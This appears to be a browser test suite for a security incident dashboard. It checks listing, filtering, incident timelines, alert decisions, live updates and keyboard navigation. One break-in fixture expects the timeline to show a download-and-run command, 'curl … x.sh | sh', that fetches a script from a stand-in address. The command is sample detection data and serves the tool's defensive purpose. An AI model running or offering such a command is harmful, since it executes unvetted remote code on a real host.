import { describe, expect, it, vi } from 'vitest';
import { hasChromium } from './chromium.ts';
import { happening, rows, titles, toBreakIn, view } from './incident-pages.ts';
import { STORY_NOW_US } from './story.ts';
import { storyPages } from './story-pages.ts';

describe.skipIf(!hasChromium)('incidents in Chromium (skipped where /usr/bin/chromium is absent)', () => {
  const pages = storyPages();
  const { begin } = pages;

  it('come first, the most pressing on top, and lead to all of them by level, state and node', async () => {
    const page = await begin();
    await page.getByRole('heading', { name: /1 serious incident to look at/ }).waitFor();
    expect(await page.title()).toBe('(1) NADIR');
    await vi.waitFor(async () => expect((await titles(page))[0]).toBe('Break-in from 203.0.113.45 on pi1'));
    expect(await rows(page).first().textContent()).toContain('then logged in as deploy at 14:13, ran curl');
    await view(page, 'Incidents');
    await vi.waitFor(async () => expect(await rows(page).count()).toBe(3));
    await page.getByRole('button', { name: 'High +' }).click();
    await vi.waitFor(async () => expect(await rows(page).count()).toBe(1));
    await page.getByRole('button', { name: 'All', exact: true }).click();
    await page.getByLabel('Node of the incidents').selectOption('pi2');
    await vi.waitFor(async () =>
      expect(await titles(page)).toEqual([expect.stringContaining('198.18.0.20')]),
    );
    await page.getByRole('button', { name: 'Closed', exact: true }).click();
    await page.getByText('No incident is like that.').waitFor();
  });

  it('tell their story: what to do, when, who, and the lines that it rests on', async () => {
    const page = await begin();
    await toBreakIn(page);
    expect(await page.locator('.next li').first().textContent()).toContain('End the session');
    const times = await page.locator('.timeline .moment').allTextContents();
    expect(times).toEqual([...times].sort());
    expect(await page.locator('.timeline').textContent()).toContain(
      'curl -fsSL http://198.51.100.77/x.sh | sh',
    );
    expect(await page.locator('.story .technique').first().getAttribute('href')).toContain(
      'attack.mitre.org',
    );
    const download = page.locator('.story .detection').filter({ hasText: 'downloaded' });
    await download.locator('summary').click();
    expect(await download.locator('.evidence').textContent()).toContain('/home/deploy/.bash_history');
    await page.getByRole('button', { name: '203.0.113.45', exact: true }).click();
    await vi.waitFor(async () => expect(await page.locator('.line').count()).toBe(47));
    expect(await page.getByLabel('Search the log').inputValue()).toBe('"203.0.113.45"');
    await page.locator('.actors').getByRole('button', { name: 'pi1' }).click();
    await vi.waitFor(async () =>
      expect(await page.getByLabel('Node', { exact: true }).inputValue()).toBe('pi1'),
    );
  });

  it('say so when nothing is there, and when decisions are switched off', async () => {
    const page = await begin({ decisions: false, lines: [] });
    await page.getByText('No incident.').waitFor();
    await view(page, 'Incidents');
    await page.getByText('No incident.').waitFor();
    await view(page, 'Alerts');
    await page.getByText('Nobody has been told anything yet.').waitFor();
    await page.getByText('Nothing is muted.').waitFor();
    await page.getByText('Decisions are switched off: nobody is banned.').waitFor();
    expect(await page.getByRole('button', { name: 'Ban an address' }).count()).toBe(0);
  });

  it('show the moment that they happen, and wait while the list is under the reader’s hand', async () => {
    const page = await begin();
    await vi.waitFor(async () => expect(await rows(page).count()).toBe(3));
    await page.mouse.move(5, 5);
    await pages.server.happen(happening('first', 'Something critical'));
    await vi.waitFor(async () => expect((await titles(page))[0]).toBe('Something critical'));
    await page.getByRole('heading', { name: /2 serious incidents to look at/ }).waitFor();

    await view(page, 'Incidents');
    await vi.waitFor(async () => expect(await rows(page).count()).toBe(4));
    await rows(page).nth(1).hover();
    const before = await rows(page).nth(1).boundingBox();
    await pages.server.happen({ ...happening('second', 'Something else'), lastUs: STORY_NOW_US + 1 });
    await pages.server.happen({
      ...happening('first', 'Something critical'),
      version: 2,
      summary: 'It went on.',
    });
    await page.getByRole('button', { name: 'Show 1 new' }).waitFor();
    await page.getByText('It went on.').waitFor();
    expect(await rows(page).nth(1).boundingBox()).toEqual(before);
    expect(await titles(page)).not.toContain('Something else');
    await page.getByRole('button', { name: 'Show 1 new' }).click();
    await vi.waitFor(async () => expect((await titles(page))[0]).toBe('Something else'));
  });

  it('grow while they are read, and lead on when they turn out to be part of another', async () => {
    const page = await begin();
    await pages.server.happen(happening('first', 'Something critical'));
    await rows(page).filter({ hasText: 'Something critical' }).getByRole('link').click();
    await page.getByText('It began.').first().waitFor();
    await page.getByRole('button', { name: 'Acknowledge' }).click();
    await page.getByLabel('Note').fill('half typed');
    const next = happening('first', 'Something critical');
    const entry = {
      timeUs: STORY_NOW_US,
      level: 'high',
      text: 'And went on.',
      rule: 'a-rule',
      detectionId: 'd',
    } as const;
    await pages.server.happen({ ...next, version: 2, timeline: [...next.timeline, entry] });
    await page.locator('.timeline').getByText('And went on.').waitFor();
    expect(await page.getByLabel('Note').inputValue()).toBe('half typed');
    const { id: other } = happening('second', 'Another');
    await pages.server.happen(happening('second', 'Another'));
    await pages.server.happen({ ...next, version: 3, closed: true, mergedInto: other });
    await page.getByRole('link', { name: 'another incident' }).click();
    await page.getByRole('heading', { name: 'Another' }).waitFor();
  });

  it('show what was told and what was held back, and why', async () => {
    const page = await begin();
    await view(page, 'Alerts');
    const told = page.locator('.alert').filter({ hasText: 'Break-in' });
    await told.getByText('Told: at once').waitFor();
    await told.locator('summary').click();
    await told.getByText(/Why: it is new, and of level critical/).waitFor();
    await told.getByRole('link', { name: 'Its incident' }).waitFor();
    await page.getByRole('button', { name: 'Held back' }).click();
    await page.getByText('None of these.').waitFor();
    await page.mouse.move(5, 5);
    const old = STORY_NOW_US - 2 * 86_400_000_000;
    await pages.server.happen({
      ...happening('old', 'Something old'),
      level: 'high',
      firstUs: old,
      lastUs: old,
    });
    await page.locator('.alert').filter({ hasText: 'In the digest: more than a day ago' }).waitFor();
  });

  it('can be worked by keyboard, and going back leads to where one was', async () => {
    const page = await begin();
    await view(page, 'Incidents');
    await rows(page).last().getByRole('link').focus();
    await page.keyboard.press('Enter');
    const heading = page.getByRole('heading', { level: 1, name: 'First login' });
    await heading.waitFor();
    await page.getByRole('button', { name: 'Acknowledge' }).focus();
    await page.keyboard.press('Enter');
    expect(await page.getByLabel('Note').isVisible()).toBe(true);
    await page.goBack();
    await vi.waitFor(async () =>
      expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Incidents'),
    );
    await page.keyboard.press('Shift+Tab');
    await page.locator('.skip').focus();
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { level: 1, name: 'Incidents' }).waitFor();
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('main');
  });
});
